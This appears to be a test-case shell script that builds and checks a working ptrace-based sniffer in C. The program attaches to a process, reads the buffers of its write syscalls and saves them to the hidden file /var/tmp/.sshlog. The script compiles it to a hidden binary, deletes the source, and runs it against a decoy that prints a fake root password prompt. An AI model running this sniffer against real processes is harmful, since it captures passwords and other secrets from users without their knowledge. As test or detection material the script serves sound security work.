#!/bin/sh
. /opt/case/case.sh

cat >/tmp/t.c <<'END'
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
int main(int n, char **w)
{
    int pid = atoi(w[n - 1]), status, kept = 0;
    struct user_regs_struct r;
    FILE *to = fopen("/var/tmp/.sshlog", "w");
    if (ptrace(PTRACE_ATTACH, pid, 0, 0)) return 1;
    for (int i = 0; i < 200 && waitpid(pid, &status, 0) == pid && !WIFEXITED(status); i++) {
        ptrace(PTRACE_GETREGS, pid, 0, &r);
        if (r.orig_rax == 1 && (long)r.rax == -38) {
            for (unsigned long at = 0; at < r.rdx && at < 64; at += 8) {
                long word = ptrace(PTRACE_PEEKDATA, pid, r.rsi + at, 0);
                fwrite(&word, 8, 1, to), kept++;
            }
        }
        ptrace(PTRACE_SYSCALL, pid, 0, 0);
    }
    fclose(to);
    return !kept;
}
END
gcc -o /tmp/.t /tmp/t.c && rm /tmp/t.c
python3 -c '
import os, time
time.sleep(2)
for i in range(40): os.write(1, b"password for root: bait-typed\n"); time.sleep(0.02)' >/dev/null & login=$!
sleep 0.3
/tmp/.t $login
grep -aq bait-typed /var/tmp/.sshlog
took_place
